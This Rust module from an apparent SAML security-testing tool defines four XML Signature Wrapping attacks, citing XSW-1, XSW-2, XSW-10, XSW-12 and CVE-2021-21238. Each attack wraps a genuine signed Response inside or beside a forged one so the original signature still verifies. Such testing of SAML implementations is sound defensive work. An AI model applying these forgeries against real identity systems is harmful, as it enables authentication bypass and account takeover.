//! Signature wrapping around a signed Response: the genuine message stays inside a forged one, its signature live.

use super::{Attack, ORDINARY, WRAPPING, is_signed_plain};
use crate::recipe::{Recipe, RecipeError};
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

const AROUND: Attack =
    Attack { needs: "a signed Response that is not encrypted", applies: has_signed_response, ..WRAPPING };

fn has_signed_response(recipe: &Recipe) -> bool {
    recipe.sign.response() && recipe.encrypt.is_none()
}

/// The genuine Response, its Signature, and the forged Response around them, the last one still empty of both.
fn apart(workshop: &mut Workshop<'_>) -> Result<(Element, Element, Element), RecipeError> {
    let forged = workshop.forged_response()?;
    let mut genuine = workshop.response.clone();
    let signature = genuine.take("Signature").ok_or(RecipeError::Missing("Signature"))?;
    Ok((genuine, signature, forged))
}

pub(super) const XSW_RESPONSE_AROUND: Attack = Attack {
    id: "xsw_response_around",
    about: "A forged Response holds the genuine, signed one in its Extensions.",
    source: "XSW-10; CVE-2021-21238",
    steps: &[Step::Signed(xsw_response_around)],
    ..AROUND
};

fn xsw_response_around(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let mut forged = workshop.forged_response()?;
    let extensions = workshop.samlp("Extensions").holding(workshop.response.clone());
    forged.insert(forged.position("Status").unwrap_or(1), extensions);
    workshop.response = forged;
    Ok(())
}

pub(super) const XSW_RESPONSE_IN_OBJECT: Attack = Attack {
    id: "xsw_response_in_object",
    about: "A forged Response carries the genuine Signature, whose Object holds the Response it refers to.",
    source: "XSW-1; Somorovsky et al., On Breaking SAML, 2012",
    steps: &[Step::Signed(xsw_response_in_object)],
    ..AROUND
};

fn xsw_response_in_object(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, signature, mut forged) = apart(workshop)?;
    let signature = signature.holding(workshop.ds("Object").holding(genuine));
    forged.insert(crate::sign::usual_position(&forged), signature);
    workshop.response = forged;
    Ok(())
}

pub(super) const XSW_RESPONSE_DETACHED: Attack = Attack {
    id: "xsw_response_detached",
    about: "A forged Response carries the genuine Signature, and the Response it refers to stands before it.",
    source: "XSW-2",
    steps: &[Step::Signed(xsw_response_detached)],
    ..AROUND
};

fn xsw_response_detached(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, signature, mut forged) = apart(workshop)?;
    let place = crate::sign::usual_position(&forged);
    forged.insert(place, signature);
    forged.insert(place, genuine);
    workshop.response = forged;
    Ok(())
}

pub(super) const OTHER_ROOT: Attack = Attack {
    id: "other_root",
    about: "The whole genuine Response stands inside another root element.",
    source: "XSW-12; samael's ancestor fixture",
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Signed(other_root)],
    ..ORDINARY
};

fn other_root(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let genuine = std::mem::replace(&mut workshop.response, Element::new("envelope"));
    workshop.response.push(genuine);
    Ok(())
}
